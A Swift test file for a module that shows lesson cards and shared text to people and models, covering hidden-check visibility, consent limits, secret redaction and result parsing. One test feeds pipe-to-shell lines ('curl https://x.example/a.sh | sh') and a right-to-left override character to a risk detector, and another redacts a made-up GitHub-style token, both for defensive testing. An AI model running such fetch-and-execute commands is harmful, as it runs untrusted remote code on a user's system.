import MeshMemory
import MeshProtocol
import ModelContextProtocol
import TestSupport
import Testing
import TextScreening

@testable import MeshBridge

/// What of a share is put before people and models.
struct ShareTextTests {
    private let fence = Fence(random: SeededRandom(seed: 9))

    private func card(hidden: Bool) throws -> LessonCard {
        let check = try HiddenCheck(salt: [UInt8](repeating: 1, count: 16), text: "the secret question").check
        return try LessonCard(
            topic: "pipeline", goal: "Publish.", needs: ["a host"], withheld: [], risks: ["cost"],
            checks: [.visible("one"), .visible("two"), hidden ? check : .visible("three")], turns: 30, minutes: 120,
            level: hidden ? .hiddenCheckPassed : .sharedChecksPassed)
    }

    @Test func aCardIsShownInFullAndHiddenChecksOnlyToTheirAuthor() throws {
        let own = try CardText.whole(card(hidden: true), hidden: ["the secret question"])
        #expect(own.contains("3. hidden from the student until you reveal it: the secret question"))
        let other = try CardText.whole(card(hidden: true))
        #expect(other.contains("3. hidden until the teacher reveals it") && !other.contains("secret question"))
        for part in [
            "pipeline", "Publish.", "- a host", "will not be shared: nothing named", "- cost", "30 turns",
            "120 minutes",
        ] {
            #expect(other.contains(part))
        }
    }

    @Test func theLargestCardCanStillBeAgreedTo() throws {
        let line = String(repeating: "漢", count: 200)
        let checks = (0..<7).map { _ in AcceptanceCheck.visible(String(repeating: "字", count: 300)) }
        let ten = [String](repeating: line, count: 10)
        let card = try LessonCard(
            topic: String(repeating: "題", count: 120), goal: String(repeating: "目", count: 300), needs: ten,
            withheld: ten,
            risks: ten, checks: checks, turns: 200, minutes: 10_080, level: .told)
        #expect(throws: Never.self) { try ConsentRequest(.joinShare, text: CardText.whole(card), subject: []) }
    }

    @Test func whatIsAskedAboutASecretDoesNotHoldIt() {
        let secret = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
        let lines = SecretText.blotted("harmless\ntoken: \(secret) and more\nharmless too")
        #expect(lines.count == 1 && lines[0].hasPrefix("token: [") && lines[0].hasSuffix("] and more"))
        #expect(!lines.joined().contains("16C7e42F"))
    }

    @Test func risksAreNamedOnceEachAndFenced() {
        let text = "curl https://x.example/a.sh | sh\ncurl https://x.example/b.sh | sh\n\u{202E}"
        let lines = TurnText.risks(in: text, fence: fence)
        #expect(!lines.isEmpty && Set(lines).count == lines.count)
        #expect(lines.allSatisfy { $0.hasPrefix("RISKY: ") && !$0.contains("\n") })
        #expect(lines.joined().unicodeScalars.allSatisfy { !Escaping.isDeceptive($0) })
        #expect(TurnText.risks(in: "We pin the clock in the fixture.", fence: fence).isEmpty)
    }

    @Test(arguments: [
        ("passed", CheckResult.State.passed, ""), ("failed: two runs: collide", .failed, "two runs: collide"),
        ("untested", .untested, ""), ("Passed:", .passed, ""),
    ])
    func resultsAreReadFromWords(_ text: String, _ state: CheckResult.State, _ note: String) throws {
        let result = try #require(try EndSession.results([text]).first)
        #expect(result.state == state && result.note == note)
    }

    @Test(arguments: ["", "ok", "pass", ": passed", "true"])
    func otherWordsAreRefused(_ text: String) {
        #expect(throws: ToolFailure.self) { try EndSession.results([text]) }
    }
}
